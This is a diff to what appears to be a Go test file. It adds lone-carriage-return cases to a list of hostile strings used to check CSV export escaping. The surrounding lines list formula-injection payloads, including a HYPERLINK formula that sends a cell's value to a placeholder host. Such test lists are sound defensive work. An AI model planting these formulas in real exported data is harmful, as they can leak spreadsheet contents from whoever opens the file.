@@ -42,6 +42,8 @@ var hostileStrings = []string{
 	// Formulas, and text that only looks escaped.
 	"=1+1", `=HYPERLINK("http://x/?"&A1)`, "+1", "-bob@x.org", "@SUM(A1)", "\t=1", "\r=1", "\x00=1",
 	"'=1", "''-x", "'", "'plain", "=a,b", "-\"q\"", "'\r\n=", "-a\nb", "\n=1", "@\r",
+	// A lone CR, which csv.Writer quotes as it does a line break.
+	"lone\rcr", "end\r",
 }
 
 // sampleUsers covers every field's forms: no roles, several, zero and set
